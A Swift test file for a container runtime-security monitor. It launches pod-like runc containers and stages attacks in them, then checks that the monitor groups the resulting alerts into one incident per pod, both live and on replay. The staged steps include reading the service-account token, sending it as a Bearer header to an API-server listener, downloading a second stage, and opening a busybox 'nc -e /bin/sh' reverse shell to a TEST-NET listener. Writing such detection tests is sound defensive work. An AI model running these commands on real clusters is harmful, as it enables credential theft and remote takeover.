// SPDX-License-Identifier: Apache-2.0
// Live, root, real runc containers shaped like pods. Two pods each read their service-account token
// and open a busybox reverse shell to a listener on TEST-NET-2; a third only runs benign commands.
// Under the real `runtime-watch run` (recording the events too): each attacked pod is one incident
// whose id all its alerts carry, the two ids differ, the benign pod has none, and
// `runtime-watch incidents` prints the same blocks from the live alert file and from a replay of the
// recorded trace (replay reproduces live incidents). A fourth pod runs the whole chain the incident
// score is built on (token read, API-server contact, egress, reverse shell): one incident, chain 4/4,
// its timeline in that order.

import Foundation
import RuntimeWatchCore
import XCTest

final class IncidentLiveTests: XCTestCase {
    static let serviceAccountPath = "/var/run/secrets/kubernetes.io/serviceaccount"

    /// A started pod-shaped container in namespace `shop` with a kubelet-style token volume.
    private func makePod(_ name: String, kubelet: TemporaryDirectory, network: TestNetwork) throws -> RuncContainer {
        var configuration = RuncContainer.Configuration()
        configuration.podName = name
        configuration.namespace = "shop"
        configuration.networkNamespacePath = network.pathB
        let link = kubelet.at("serviceaccount-\(name)")
        configuration.binds = [BindMount(hostPath: link, containerPath: Self.serviceAccountPath)]
        let container = try RuncContainer(configuration)
        addTeardownBlock { container.stop() }
        let volume = try FakeKubeletVolume(kubeletRoot: kubelet.path, podUID: container.podUID, token: "eyJhbGciOiJSUzI1NiJ9.\(name).sig")
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: volume.volumeDir)
        try container.start()
        return container
    }

    /// Token read, then a busybox `nc -e /bin/sh` reverse shell. - Returns: the listener's port.
    private func attack(_ pod: RuncContainer, network: TestNetwork) throws -> UInt16 {
        let token = try pod.exec(["cat", Self.serviceAccountPath + "/token"])
        XCTAssertEqual(token.stdout, "eyJhbGciOiJSUzI1NiJ9.\(pod.configuration.podName).sig")
        usleep(300_000)
        let listener = try network.startListener(sending: "id", timeout: .seconds(10))
        let shell = try pod.exec(["busybox", "nc", TestNetwork.addressA, String(listener.port), "-e", "/bin/sh"], timeout: .seconds(15))
        let seen = try listener.result()
        XCTAssertTrue(seen.received.hasPrefix("uid=0(root)"), "listener got: \(seen.received); nc: \(shell)")
        return UInt16(listener.port)
    }

    /// The whole chain in one pod, each step a separate command as an attacker types them: the token,
    /// a call to the API server with it (port 6443, the only thing that makes an address "the API
    /// server" when the profile names none), a download from an unusual port, then the shell.
    func testAFourStepChainInOnePodIsOneIncidentWithEveryStepInOrder() throws {
        try requireRoot("incident live test")
        try requireTools([(path: RuncContainer.runc, package: "runc"), (path: BusyboxRootfs.busybox, package: "busybox-static"),
                          (path: TestNetwork.ip, package: "iproute2"), (path: NetnsListener.python, package: "python3")])
        let scratch = try TemporaryDirectory(prefix: "rw-incident-chain")
        addTeardownBlock { scratch.remove() }
        let kubelet = try TemporaryDirectory(prefix: "rw-kubelet")
        addTeardownBlock { kubelet.remove() }
        let network = try TestNetwork()
        addTeardownBlock { network.teardown() }
        let pod = try makePod("chain-\(RuncContainer.randomHex(bytes: 3))", kubelet: kubelet, network: network)
        let alertsPath = scratch.at("alerts.jsonl")
        let monitor = try EgressLiveChild(arguments: ["run", "--output", alertsPath, "--listen", "off",
                                                      "--kubelet-root", kubelet.path, "--duration", "120"],
                                          scratch: scratch, logName: "run.log")
        addTeardownBlock { monitor.stop() }
        guard monitor.waitForLog("monitoring", timeout: .seconds(30)) else { return XCTFail("monitor not ready:\n\(monitor.log)") }
        usleep(1_500_000) // the token watcher marks its files after process capture starts

        // 1. The token.
        let token = try pod.exec(["cat", Self.serviceAccountPath + "/token"]).stdout
        XCTAssertTrue(token.hasPrefix("eyJ"), token)
        // 2. The API server, with the token, as `curl -H "Authorization: Bearer …"` would (busybox's nc:
        // the static busybox's wget crashes without NSS in this bare rootfs).
        let api = try network.startListener(port: 6443, sending: "HTTP/1.0 403 Forbidden\r\nContent-Length: 0\r\n\r", timeout: .seconds(10))
        let request = "GET /api/v1/namespaces/shop/secrets HTTP/1.0\r\nAuthorization: Bearer \(token)\r\n\r\n"
        let call = try pod.exec(["busybox", "nc", "-w", "5", TestNetwork.addressA, "6443"], timeout: .seconds(15), stdin: request)
        let apiSaw = try api.result()
        XCTAssertTrue(apiSaw.received.contains("Authorization: Bearer \(token)"), "the API server got the stolen token: \(apiSaw); wget: \(call)")
        usleep(300_000)
        // 3. Egress: a second stage from an unusual port.
        let stage = try network.startListener(sending: "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok", timeout: .seconds(10))
        let download = try pod.exec(["busybox", "nc", "-w", "5", TestNetwork.addressA, String(stage.port)], timeout: .seconds(15),
                                    stdin: "GET /stage2 HTTP/1.0\r\n\r\n")
        let stageSaw = try stage.result()
        XCTAssertTrue(stageSaw.received.contains("GET /stage2"), "the stage server was reached: \(stageSaw); wget: \(download)")
        usleep(300_000)
        // 4. The shell.
        let shellListener = try network.startListener(sending: "id", timeout: .seconds(10))
        let shell = try pod.exec(["busybox", "nc", TestNetwork.addressA, String(shellListener.port), "-e", "/bin/sh"], timeout: .seconds(15))
        XCTAssertTrue(try shellListener.result().received.hasPrefix("uid=0(root)"), "nc: \(shell)")

        func alerts() -> [EndToEndAlert] {
            ((try? egressLiveAlerts(in: alertsPath)) ?? []).filter { $0.containerID == String(pod.id.prefix(12)) }
        }
        _ = waitUntil(timeout: .seconds(20)) { alerts().contains { $0.ruleID == "reverse-shell" } }
        usleep(1_000_000) // the egress alerts of the connects (audit) may come a little after
        monitor.stop()

        let mine = alerts()
        let rules = Set(mine.map(\.ruleID))
        XCTAssertEqual(rules, ["service-account-token-read", "k8s-api-after-token-read", "unexpected-outbound-connection",
                               "reverse-shell", "incident"], "\(mine)\nlog:\n\(monitor.log)")
        let ids = Set(mine.map { $0.string("rw.incident.id") ?? "none" })
        XCTAssertEqual(ids.count, 1, "one incident, its id on every alert: \(ids)")
        XCTAssertFalse(ids.contains("none"))

        // `incidents` over the live alert file: one block, the whole chain, its timeline in order.
        let report = try CommandRunner.run([try runtimeWatchBinary(), "incidents", alertsPath], timeout: .seconds(60))
        XCTAssertEqual(report.status, 0, "\(report)")
        let blocks = report.stdout.components(separatedBy: "\n\n").filter { $0.hasPrefix("Incident ") }
        XCTAssertEqual(blocks.count, 1, report.stdout)
        let lines = (blocks.first ?? "").split(separator: "\n").map(String.init)
        XCTAssertTrue(lines.count > 1 && lines[1].contains(", chain 4/4, "), "all four steps in chain order:\n\(report.stdout)")
        func line(_ rule: String, _ process: String, _ target: String) -> Int? {
            lines.firstIndex { $0.contains(" \(rule) \(process)(") && $0.contains(" \(target)") }
        }
        let steps = [line("service-account-token-read", "cat", Self.serviceAccountPath),
                     line("k8s-api-after-token-read", "busybox", "\(TestNetwork.addressA):6443"),
                     line("unexpected-outbound-connection", "busybox", "\(TestNetwork.addressA):\(stage.port)"),
                     line("reverse-shell", "sh", "\(TestNetwork.addressA):\(shellListener.port)")]
        XCTAssertFalse(steps.contains(nil), "every step in the timeline: \(steps)\n\(report.stdout)")
        let found = steps.compactMap { $0 }
        XCTAssertEqual(found, found.sorted(), "timeline in order:\n\(report.stdout)")
    }

    func testAttackChainsInTwoPodsAreTwoIncidentsAndABenignPodNoneLiveAndInReplay() throws {
        try requireRoot("incident live test")
        try requireTools([(path: RuncContainer.runc, package: "runc"), (path: BusyboxRootfs.busybox, package: "busybox-static"),
                          (path: TestNetwork.ip, package: "iproute2"), (path: NetnsListener.python, package: "python3")])
        let scratch = try TemporaryDirectory(prefix: "rw-incident")
        addTeardownBlock { scratch.remove() }
        let kubelet = try TemporaryDirectory(prefix: "rw-kubelet")
        addTeardownBlock { kubelet.remove() }
        let network = try TestNetwork()
        addTeardownBlock { network.teardown() }
        let suffix = RuncContainer.randomHex(bytes: 3)
        let pods = try ["web", "api", "batch"].map { try makePod("\($0)-\(suffix)", kubelet: kubelet, network: network) }

        let alertsPath = scratch.at("alerts.jsonl"), tracePath = scratch.at("trace.jsonl")
        let monitor = try EgressLiveChild(arguments: ["run", "--output", alertsPath, "--record", tracePath, "--listen", "off",
                                                      "--kubelet-root", kubelet.path, "--duration", "120"],
                                          scratch: scratch, logName: "run.log")
        addTeardownBlock { monitor.stop() }
        guard monitor.waitForLog("monitoring", timeout: .seconds(30)) else { return XCTFail("monitor not ready:\n\(monitor.log)") }
        usleep(1_500_000) // the token watcher marks its files after process capture starts

        let ports = [try attack(pods[0], network: network), try attack(pods[1], network: network)]
        // Benign: no token read, no network.
        XCTAssertEqual(try pods[2].exec(["ls", "/"]).status, 0)
        XCTAssertEqual(try pods[2].exec(["sh", "-c", "echo hello | cat"]).stdout, "hello\n")

        func alerts(of pod: RuncContainer) -> [EndToEndAlert] {
            ((try? egressLiveAlerts(in: alertsPath)) ?? []).filter { $0.containerID == String(pod.id.prefix(12)) }
        }
        _ = waitUntil(timeout: .seconds(20)) { pods.prefix(2).allSatisfy { pod in alerts(of: pod).contains { $0.ruleID == "reverse-shell" } } }
        usleep(1_000_000)
        monitor.stop()

        var ids: [String] = []
        for pod in pods.prefix(2) {
            let mine = alerts(of: pod)
            // The shell's connect may also raise unexpected-outbound-connection (a public address on
            // an unusual port): the egress step of the same chain.
            let rules = Set(mine.filter { $0.ruleID != "incident" }.map(\.ruleID)).subtracting(["unexpected-outbound-connection"])
            XCTAssertEqual(rules, ["service-account-token-read", "reverse-shell"], "\(mine)\nlog:\n\(monitor.log)")
            let podIDs = Set(mine.map { ($0.raw["output_fields"] as? [String: Any])?["rw.incident.id"] as? String ?? "none" })
            XCTAssertEqual(podIDs.count, 1, "one incident per pod, its id on every alert: \(podIDs)")
            XCTAssertFalse(podIDs.contains("none"))
            ids += podIDs
        }
        XCTAssertEqual(Set(ids).count, 2, "two pods, two incidents: \(ids)")
        XCTAssertEqual(alerts(of: pods[2]).map(\.ruleID), [], "the benign pod raised nothing")

        // The same blocks from the live alert file and from the replayed recording.
        let binary = try runtimeWatchBinary()
        func blocks(_ file: String) throws -> [String: String] {
            let result = try CommandRunner.run([binary, "incidents", file], timeout: .seconds(60))
            XCTAssertEqual(result.status, 0, "\(result)")
            var byPod: [String: String] = [:]
            for pod in pods {
                // Blocks are separated by a blank line; the last one also ends the output with a newline.
                let found = result.stdout.components(separatedBy: "\n\n").map { $0.trimmingCharacters(in: .newlines) }.filter { $0.hasPrefix("Incident ") && $0.contains(" pod shop/\(pod.configuration.podName)\n") }
                XCTAssertLessThanOrEqual(found.count, 1, "incidents \(file):\n\(result.stdout)")
                byPod[pod.configuration.podName] = found.first
            }
            return byPod
        }
        let live = try blocks(alertsPath), replayed = try blocks(tracePath)
        XCTAssertEqual(live, replayed, "replay of the recording gives the live incidents")
        if live != replayed {
            for file in [alertsPath, tracePath] { print("incidents \(file):\n\((try? CommandRunner.run([binary, "incidents", file], timeout: .seconds(60)).stdout) ?? "")") }
        }
        XCTAssertNil(live[pods[2].configuration.podName], "no incident for the benign pod")
        for (index, pod) in pods.prefix(2).enumerated() {
            let block = live[pod.configuration.podName] ?? ""
            let lines = block.split(separator: "\n").map(String.init)
            XCTAssertEqual(lines.count, 2 + alerts(of: pod).filter { $0.ruleID != "incident" }.count, "header, summary, one line per alert: \(block)")
            XCTAssertTrue(lines.first?.hasPrefix("Incident \(ids[index]) ") == true, block)
            let tokenLine = lines.firstIndex { $0.contains(" service-account-token-read cat(") }
            let shellLine = lines.firstIndex { $0.contains(" reverse-shell sh(") && $0.contains(" \(TestNetwork.addressA):\(ports[index]) ") }
            XCTAssertNotNil(tokenLine, block); XCTAssertNotNil(shellLine, block)
            if let tokenLine, let shellLine { XCTAssertLessThan(tokenLine, shellLine, "timeline in order: \(block)") }
        }
    }
}
